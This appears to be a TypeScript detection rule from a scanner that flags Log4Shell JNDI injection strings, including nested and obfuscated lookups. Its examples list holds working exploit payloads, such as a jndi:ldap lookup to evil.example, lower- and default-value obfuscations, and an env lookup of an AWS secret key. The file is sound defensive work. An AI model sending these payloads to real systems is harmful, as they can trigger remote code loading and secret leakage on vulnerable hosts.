import type { PayloadGrammar, PayloadHit } from './grammar.ts'

/** Log4j's nested lookups undone: `${lower:j}`, `${::-j}`, `${env:X:-j}` are `j`. At most eight rounds. */
function resolveLookups(text: string): string {
  let current = text
  for (let round = 0; round < 8; round += 1) {
    const next = current
      .replace(/\$\{(?:lower|upper):([^${}]{0,16})\}/g, '$1')
      .replace(/\$\{[^${}]{0,64}:-([^${}]{0,16})\}/g, '$1')
    if (next === current) break
    current = next
  }
  return current
}

function inspect(_value: string, lower: string): PayloadHit | undefined {
  const resolved = resolveLookups(lower)
  if (/\$\{\s?jndi\s?:/.test(resolved)) return { kind: 'jndi', rule: 'lookup', confidence: 0.99 }
  if (resolved !== lower && /\$\{[^}]{0,64}(?:ldaps?|rmi|dns|iiop|nis|corba|nds):/.test(resolved))
    return { kind: 'jndi', rule: 'nested-lookup', confidence: 0.95 }
  if (/jndi:(?:ldaps?|rmi|dns|iiop|http|nis|corba|nds|\$)/.test(resolved))
    return { kind: 'jndi', rule: 'lookup', confidence: 0.95 }
  if (/\$\{(?:env|sys|java|ctx|main|bundle|k8s|docker|spring|web):[\w.:-]{1,64}\}/.test(lower))
    return { kind: 'jndi', rule: 'context-lookup', confidence: 0.85 }
  if (/\$\{[^}]{0,64}\$\{(?:lower|upper|::-|env:|sys:|date:)/.test(lower))
    return { kind: 'jndi', rule: 'nested-lookup', confidence: 0.93 }
  return undefined
}

export const jndiLookup: PayloadGrammar = {
  kind: 'jndi',
  triggers: ['${', 'jndi:'],
  inspect,
  examples: {
    hits: [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:${lower:l}dap://x/a}',
      '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
      '${${env:NaN:-j}ndi:ldap://x}',
      '${env:AWS_SECRET_ACCESS_KEY}',
    ],
    misses: ['${user}', 'costs ${price} today', 'jndi is a directory interface', '${a:b}'],
  },
}
